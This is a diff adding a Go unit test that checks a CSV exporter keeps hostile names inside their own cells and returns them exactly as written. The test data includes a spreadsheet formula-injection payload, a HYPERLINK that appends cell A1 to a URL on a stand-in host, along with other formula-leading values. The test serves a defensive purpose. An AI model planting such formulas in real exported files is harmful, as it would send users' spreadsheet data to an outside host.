@@ -1,7 +1,9 @@
 package export
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"net/http"
 	"net/http/httptest"
@@ -95,5 +97,37 @@ func TestClientBoundsWhatItReads(t *testing.T) {
 	_, err = Client{Base: srv.URL, MaxBytes: int64(5 * len(one))}.Rounds(ctx)
 	if err == nil || !strings.Contains(err.Error(), "bytes") {
 		t.Errorf("20 rounds under a limit of about 5: %v, want an error naming the limit", err)
+	}
+}
+
+// TestCSVKeepsHostileNamesInTheirCells: names a forged outcome carries
+// (quotes, commas, line breaks, a spreadsheet formula) stay inside their
+// own cells and come back as written: the CSV neither breaks its quoting
+// nor rewrites a value (docs/results.md, "Trust", on formulas).
+func TestCSVKeepsHostileNamesInTheirCells(t *testing.T) {
+	r := sampleRound(1)
+	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "a,b\n\"c\"\nd", "@SUM(1+1)", "-2+3"}
+	r.Outcome.Series = hostile[0]
+	r.Outcome.Statistics[1].Name = hostile[1]
+	r.Outcome.Statistics[1].Bins[0].Label = hostile[2]
+	r.Outcome.Statistics[1].Bins[1].Label = hostile[3]
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, []Round{r}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 1+6 {
+		t.Fatalf("%d rows, want a header and 6", len(rows))
+	}
+	for _, row := range rows[1:] {
+		if len(row) != len(CSVHeader) || row[0] != hostile[0] {
+			t.Errorf("row %q: series cell not as written", row)
+		}
+	}
+	if rows[2][4] != hostile[1] || rows[2][5] != hostile[2] || rows[3][5] != hostile[3] {
+		t.Errorf("rows %q and %q do not hold the names as written", rows[2], rows[3])
 	}
 }
